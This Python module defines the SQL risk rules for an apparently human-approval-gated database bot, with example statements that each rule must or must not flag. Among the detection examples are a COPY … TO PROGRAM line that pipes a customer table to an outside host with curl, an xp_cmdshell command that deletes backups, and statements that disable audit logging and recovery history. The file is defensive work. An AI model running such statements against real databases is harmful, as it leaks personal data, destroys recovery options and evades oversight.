"""SQL rules as data: what is risky, why, and the examples that prove each rule.

Each `SqlRule` names what `SqlDetector` (`bot.risk.sql`) flags, with the reason an
approver reads and `match` / `not_match` examples that `verify_sql_rules` runs at
start-up. The column vocabularies say which columns are personal or sensitive data
wherever they live.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass

from bot.config import Risk, Verdict

# Column names that are personal data wherever they live; used only for tables
# the catalog does not know, so a bare install still notices `SELECT ssn …`.
COMMON_PII_COLUMNS = frozenset(
    {
        "ssn",
        "social_security_number",
        "sin",
        "national_id",
        "passport_number",
        "email",
        "email_address",
        "personal_email",
        "phone",
        "phone_number",
        "mobile",
        "date_of_birth",
        "dob",
        "birth_date",
        "birthdate",
        "full_name",
        "first_name",
        "last_name",
        "home_address",
        "street_address",
        "address",
        "credit_card",
        "card_number",
        "cc_number",
        "cvv",
        "iban",
        "account_number",
        "salary",
        "password",
        "password_hash",
        "tax_id",
        "ip_address",
    }
)

# Column names whose values are harmful to expose whatever the table: a column so
# named needs a second person even when the catalog has never heard of its table.
# The first group is worse (identity theft, fraud, account takeover): high risk.
_SENSITIVE_HIGH_COLUMN = re.compile(
    r"(?:ssn|ssns|social_security\w*|sin|national_id\w*|national_insurance\w*|tax_id\w*|tin|"
    r"passport(?:_?(?:number|no|num|id))?|drivers?_licen[cs]e(?:_?(?:number|no|num|id))?|"
    r"card_number|card_no|cc_number|cc_num|credit_card\w*|pan|cvv\w*|cvc\w*|card_cvv|"
    r"iban|bank_account\w*|account_number|routing_number|sort_code|"
    r"password\w*|passwd|pass_hash|secret|\w+_secret|secret_\w+|token|\w+_token|api_key\w*|"
    r"private_key\w*|access_key\w*|secret_key\w*)"
)
_SENSITIVE_MEDIUM_COLUMN = re.compile(
    r"(?:date_of_birth|dob|birth_?date|birthday|salary|salaries|\w+_salary|salary_\w+|"
    r"base_pay|compensation\w*|bonus_amount|medical\w*|diagnosis\w*|health_\w+)"
)


def sensitive_column_risk(column: str) -> Risk | None:
    """'high' / 'medium' for a column name that is sensitive wherever it lives, else None."""
    name = column.lower()
    if _SENSITIVE_HIGH_COLUMN.fullmatch(name):
        return "high"
    if _SENSITIVE_MEDIUM_COLUMN.fullmatch(name):
        return "medium"
    return None


@dataclass(frozen=True, slots=True)
class SqlRule:
    """One SQL rule: what it flags, how bad it is, and the examples that prove it."""

    id: str
    category: str
    risk: Risk
    verdict: Verdict
    reason: str
    """Template; `{target}` is replaced with the table/role/location involved."""
    match: tuple[str, ...]
    not_match: tuple[str, ...]


def _rule(
    id: str,
    category: str,
    risk: Risk,
    verdict: Verdict,
    reason: str,
    match: Sequence[str],
    not_match: Sequence[str],
) -> SqlRule:
    return SqlRule(id, category, risk, verdict, reason, tuple(match), tuple(not_match))


SQL_RULES: tuple[SqlRule, ...] = (
    _rule(
        "sql.drop_database",
        "destructive",
        "critical",
        "require_approval",
        "Drops a whole database or schema ({target}) and every table in it.",
        ["DROP DATABASE analytics", "DROP SCHEMA crm CASCADE"],
        ["DROP TABLE tmp_import", "SELECT 'DROP DATABASE x'"],
    ),
    _rule(
        "sql.drop",
        "destructive",
        "high",
        "require_approval",
        "Drops {target}; its data is gone unless restored from a backup.",
        ["DROP TABLE customers", "drop view if exists reporting.v_customers"],
        ["SELECT * FROM drops", "DROP INDEX idx_orders_created"],
    ),
    _rule(
        "sql.truncate",
        "destructive",
        "high",
        "require_approval",
        "Empties {target} (TRUNCATE cannot be filtered or rolled back in most databases).",
        ["TRUNCATE TABLE payments", "truncate orders, order_items"],
        ["SELECT truncate_date FROM orders WHERE id = 1"],
    ),
    _rule(
        "sql.alter_drop",
        "destructive",
        "high",
        "require_approval",
        "Alters {target} to drop a column or constraint; that data is lost.",
        ["ALTER TABLE customers DROP COLUMN ssn", "ALTER TABLE orders DROP CONSTRAINT fk_cust"],
        ["ALTER TABLE orders ADD COLUMN note text"],
    ),
    _rule(
        "sql.delete_all",
        "destructive",
        "high",
        "require_approval",
        "Deletes every row of {target}: no WHERE clause, or one that is always true.",
        ["DELETE FROM customers", "DELETE FROM orders WHERE 1=1", "delete from t where 'a'='a'"],
        ["DELETE FROM customers WHERE id = 7", "DELETE FROM sessions WHERE expires_at < now()"],
    ),
    _rule(
        "sql.update_all",
        "destructive",
        "high",
        "require_approval",
        "Updates every row of {target}: no WHERE clause, or one that is always true.",
        ["UPDATE customers SET email = NULL", "UPDATE users SET role='admin' WHERE id=3 OR TRUE"],
        ["UPDATE customers SET email = 'a@b.example' WHERE id = 7"],
    ),
    _rule(
        "sql.bulk_change_pii",
        "pii",
        "high",
        "require_approval",
        "Deletes or changes many rows of {target}, which holds personal data: the WHERE is a "
        "range or condition, not a lookup of particular records by key.",
        [
            "DELETE FROM customers WHERE created_at < '2021-01-01'",
            "UPDATE customers SET email = NULL WHERE churn_score > 0.8",
            "DELETE FROM customers WHERE id IN (SELECT customer_id FROM churned)",
            "MERGE INTO customers c USING churned x ON c.id = x.id WHEN MATCHED THEN DELETE",
        ],
        [
            "DELETE FROM customers WHERE id = 7",
            "UPDATE customers SET email = NULL WHERE email = 'pat@example.com'",
            "DELETE FROM sessions WHERE expires_at < now()",
        ],
    ),
    _rule(
        "sql.bulk_change_prod",
        "destructive",
        "high",
        "require_approval",
        "Deletes or changes many rows of {target} in production: the WHERE is a range or "
        "threshold (dates, amounts, scores), not a lookup of particular records by key or a "
        "capped batch, so one wrong bound takes every row it covers.",
        [
            "DELETE FROM prod.invoices WHERE created_at < '2026-11-01'",
            "UPDATE billing_prod.subscriptions SET status = 'cancelled' "
            "WHERE renewal_date < '2026-12-01'",
            "DELETE FROM production.shipments WHERE weight_kg BETWEEN 0 AND 1",
        ],
        [
            "DELETE FROM prod.invoices WHERE invoice_id = 7",
            "DELETE FROM staging.invoices WHERE created_at < '2026-11-01'",
            "DELETE FROM invoices WHERE created_at < '2026-11-01'",
            "DELETE FROM prod.sessions WHERE expires_at < now() LIMIT 5000",
            "DELETE FROM prod.sessions WHERE expires_at < now()",
            "DELETE FROM prod.users WHERE is_test = true",
            "DELETE FROM prod.events WHERE user_id = 7f3c2a10-5b9e-4e11-9c2d-0a8e6b1f4d22 "
            "AND event_time = '2026-11-30 08:14:02'",
            "SELECT count(*) FROM prod.invoices WHERE created_at < '2026-11-01'",
        ],
    ),
    _rule(
        "sql.replace_table",
        "destructive",
        "high",
        "require_approval",
        "Replaces the table {target}: every row it held is dropped and rewritten "
        "(CREATE OR REPLACE TABLE, INSERT OVERWRITE).",
        [
            "CREATE OR REPLACE TABLE analytics.orders AS SELECT * FROM staging.orders",
            "INSERT OVERWRITE TABLE sales.orders SELECT * FROM sales.orders_tmp",
        ],
        [
            "CREATE OR REPLACE VIEW v AS SELECT 1",
            "CREATE OR REPLACE TEMPORARY TABLE t AS SELECT 1",
            "INSERT INTO sales.orders SELECT * FROM x",
            "CREATE TABLE IF NOT EXISTS t (id int)",
        ],
    ),
    _rule(
        "sql.history_off",
        "backups",
        "high",
        "require_approval",
        "Turns off or purges the database's own recovery history ({target}): time travel, "
        "point-in-time restore or WAL archiving, so a mistake can no longer be undone.",
        [
            "ALTER TABLE analytics.orders SET DATA_RETENTION_TIME_IN_DAYS = 0",
            "ALTER DATABASE prod SET DATA_RETENTION_TIME_IN_DAYS=0",
            "VACUUM sales.orders RETAIN 0 HOURS",
            "SET spark.databricks.delta.retentionDurationCheck.enabled = false",
            "ALTER TABLE t SET TBLPROPERTIES ('delta.logRetentionDuration' = 'interval 0 days')",
            "ALTER DATABASE ledger SET RECOVERY SIMPLE",
            "ALTER SYSTEM SET archive_mode = off",
        ],
        [
            "ALTER TABLE analytics.orders SET DATA_RETENTION_TIME_IN_DAYS = 30",
            "VACUUM sales.orders",
            "VACUUM sales.orders RETAIN 168 HOURS",
            "ALTER DATABASE ledger SET RECOVERY FULL",
            "ALTER SYSTEM SET archive_mode = on",
        ],
    ),
    _rule(
        "sql.grant_public",
        "access",
        "critical",
        "require_approval",
        "Grants access on {target} to everyone (PUBLIC / allUsers / any host).",
        [
            "GRANT SELECT ON customers TO PUBLIC",
            "grant all on schema crm to public",
            'GRANT `roles/bigquery.dataViewer` ON SCHEMA `p.crm` TO "allAuthenticatedUsers"',
        ],
        ["GRANT SELECT ON reports TO analyst", "GRANT SELECT ON shop.products TO 'app'@'10.0.%'"],
    ),
    _rule(
        "sql.grant_external",
        "access",
        "high",
        "require_approval",
        "Grants access on {target} to someone outside the company.",
        ['GRANT `roles/bigquery.dataViewer` ON SCHEMA `p.crm` TO "user:pat@gmail.com"'],
        ['GRANT `roles/bigquery.dataViewer` ON SCHEMA `p.crm` TO "group:bi@example.com"'],
    ),
    _rule(
        "sql.grant_schema_wide",
        "access",
        "high",
        "require_approval",
        "Grants access on all tables in a schema ({target}) at once, present and future data.",
        ["GRANT SELECT ON ALL TABLES IN SCHEMA public TO analyst"],
        ["GRANT SELECT ON public.reports TO analyst"],
    ),
    _rule(
        "sql.grant_to_share",
        "access",
        "critical",
        "require_approval",
        "Grants {target} to a Snowflake share: the data becomes visible to another account.",
        [
            "GRANT SELECT ON TABLE crm.customers TO SHARE partner_share",
            "ALTER SHARE partner_share ADD ACCOUNTS = acme.partner1",
        ],
        ["GRANT SELECT ON TABLE crm.customers TO ROLE analyst", "ALTER SHARE s SET COMMENT = 'x'"],
    ),
    _rule(
        "sql.grant_admin",
        "access",
        "critical",
        "require_approval",
        "Gives {target} administrative or all privileges.",
        [
            "GRANT ALL PRIVILEGES ON DATABASE prod TO contractor",
            "GRANT ROLE ACCOUNTADMIN TO USER bob",
            "GRANT postgres TO intern",
            "GRANT ALL ON *.* TO 'app'@'%' WITH GRANT OPTION",
        ],
        ["GRANT SELECT ON reports TO analyst", "GRANT analyst TO bob"],
    ),
    _rule(
        "sql.grant",
        "access",
        "medium",
        "allow",
        "Changes who can access {target}.",
        ["GRANT SELECT ON reports TO analyst", "REVOKE ALL ON customers FROM analyst"],
        ["SELECT grantee FROM information_schema.role_table_grants"],
    ),
    _rule(
        "sql.privileged_role",
        "access",
        "critical",
        "require_approval",
        "Gives role {target} superuser-level powers (bypasses every permission check).",
        ["ALTER ROLE bob SUPERUSER", "ALTER USER app WITH BYPASSRLS", "CREATE ROLE x SUPERUSER"],
        ["ALTER ROLE bob SET search_path = app"],
    ),
    _rule(
        "sql.role_change",
        "access",
        "medium",
        "require_approval",
        "Creates, changes or removes database login/role {target}.",
        [
            "CREATE USER eve WITH PASSWORD 'hunter2'",
            "CREATE ROLE etl LOGIN",
            "ALTER ROLE bob WITH PASSWORD 'x'",
            "DROP USER bob",
        ],
        [
            "ALTER ROLE analyst_bot SET statement_timeout = '30s'",
            "CREATE ROLE reporting NOLOGIN",
            "CREATE TABLE users (id int)",
        ],
    ),
    _rule(
        "sql.disable_rls",
        "access",
        "high",
        "require_approval",
        "Turns off row-level security on {target}: every reader sees every row.",
        [
            "ALTER TABLE customers DISABLE ROW LEVEL SECURITY",
            "DROP POLICY tenant_isolation ON customers",
            "SET row_security = off",
        ],
        ["ALTER TABLE customers ENABLE ROW LEVEL SECURITY", "SET search_path = app"],
    ),
    _rule(
        "sql.masking_off",
        "access",
        "high",
        "require_approval",
        "Removes column masking on {target}: readers see the raw personal data.",
        [
            "ALTER TABLE crm.customers MODIFY COLUMN email UNSET MASKING POLICY",
            "DROP MASKING POLICY email_mask",
        ],
        ["ALTER TABLE crm.customers MODIFY COLUMN email SET MASKING POLICY email_mask"],
    ),
    _rule(
        "sql.audit_off",
        "security-controls",
        "high",
        "require_approval",
        "Turns off the database's audit or statement logging ({target}): access goes unrecorded.",
        [
            "ALTER SYSTEM SET pgaudit.log = 'none'",
            "SET GLOBAL general_log = 'OFF'",
            "ALTER SERVER AUDIT trail WITH (STATE = OFF)",
            "NOAUDIT ALL",
        ],
        ["ALTER SYSTEM SET work_mem = '64MB'", "SET GLOBAL general_log = 'ON'"],
    ),
    _rule(
        "sql.copy_program",
        "exfiltration",
        "critical",
        "require_approval",
        "Runs a shell command on the database server ({target}): COPY … PROGRAM, xp_cmdshell.",
        [
            "COPY customers TO PROGRAM 'curl -T - https://x.example'",
            "EXEC sp_configure 'xp_cmdshell', 1",
            "EXEC xp_cmdshell 'del /s /q D:\\backups'",
        ],
        ["COPY customers FROM '/tmp/import.csv'", "EXEC sp_configure 'xp_cmdshell', 0"],
    ),
    _rule(
        "sql.export",
        "exfiltration",
        "high",
        "require_approval",
        "Exports {data} to {target}, outside the database's access controls.",
        [
            "COPY customers TO '/tmp/customers.csv'",
            "SELECT * FROM customers INTO OUTFILE '/tmp/c.csv'",
            "UNLOAD ('select * from customers') TO 's3://bucket/c_' IAM_ROLE 'arn:r'",
            "COPY INTO @ext_stage/customers FROM crm.customers",
            "EXPORT DATA OPTIONS(uri='gs://b/*.csv', format='CSV') AS SELECT * FROM ds.customers",
            "GET @~/export/ file:///Users/alex/Downloads/",
        ],
        [
            "COPY customers FROM '/tmp/c.csv'",
            "COPY INTO crm.customers FROM @load_stage",
            "COPY (SELECT plan, count(*) FROM customers GROUP BY plan) TO '/tmp/plans.csv'",
        ],
    ),
    _rule(
        "sql.export_summary",
        "exfiltration",
        "low",
        "allow",
        "Exports query results without personal-data columns to {target}.",
        [
            "COPY (SELECT plan, count(*) FROM customers GROUP BY plan) TO '/tmp/plans.csv'",
            "SELECT sku, price FROM products INTO OUTFILE '/tmp/prices.csv'",
        ],
        ["COPY customers TO '/tmp/customers.csv'", "SELECT email FROM x INTO OUTFILE '/tmp/e'"],
    ),
    _rule(
        "sql.copy_stdout",
        "exfiltration",
        "medium",
        "allow",
        "Copies {target} out to the client in bulk.",
        ["COPY customers TO STDOUT WITH CSV"],
        ["COPY customers FROM STDIN"],
    ),
    _rule(
        "sql.select_pii",
        "pii",
        "medium",
        "require_approval",
        "Reads personal data: {target}.",
        ["SELECT email, plan FROM customers", "SELECT * FROM crm.customers WHERE id = 1"],
        [
            "SELECT plan, count(*) FROM customers GROUP BY plan",
            "SELECT email FROM newsletter_optins",
        ],
    ),
    _rule(
        "sql.select_pii_uncatalogued",
        "pii",
        "medium",
        "allow",
        "Reads columns that usually hold personal data ({target}) from a table not in the catalog.",
        ["SELECT ssn, full_name FROM people", "SELECT email, phone FROM leads"],
        [
            "SELECT id, created_at FROM people",
            "SELECT email FROM customers",
            "SELECT date_of_birth FROM people",
        ],
    ),
    _rule(
        "sql.select_sensitive_uncatalogued",
        "pii",
        "medium",
        "require_approval",
        "Reads columns whose names say they hold sensitive data ({target}: government IDs, "
        "card or bank numbers, credentials, birth dates or pay) from a table not in the "
        "catalog.",
        [
            "SELECT ssn, salary FROM employees",
            "SELECT full_name, date_of_birth FROM crm.people",
            "SELECT u.api_token FROM app_users u",
            "SELECT card_number, cvv FROM payments_raw",
        ],
        [
            "SELECT email, phone FROM leads",
            "SELECT count(ssn) FROM employees",
            "SELECT id FROM employees WHERE salary > 100000",
            "SELECT token_count, passport_office FROM visits",
            "SELECT ssn FROM customers",
        ],
    ),
    _rule(
        "sql.unparsed",
        "parse",
        "medium",
        "require_approval",
        "A statement that changes data or access could not be parsed, so it cannot be checked.",
        ["DELETE FROM WHERE AND ((", "GRANT ?? ON"],
        ["SELECT 1"],
    ),
    _rule(
        "sql.too_long",
        "parse",
        "medium",
        "require_approval",
        "There is more SQL here than is read in one check; what was left unread must be "
        "looked at by a person.",
        ["SELECT " + ", ".join(f"col_{i}" for i in range(2500)) + " FROM wide_table"],
        ["SELECT 1", "SELECT " + ", ".join(f"col_{i}" for i in range(200)) + " FROM t"],
    ),
)
RULES_BY_ID: dict[str, SqlRule] = {r.id: r for r in SQL_RULES}

# Example catalog used only to prove the PII rules' own examples at start-up.
EXAMPLE_PII: dict[str, tuple[str, ...]] = {
    "customers": ("email", "full_name", "ssn"),
    "crm.customers": ("email", "full_name", "ssn"),
    "newsletter_optins": (),
}
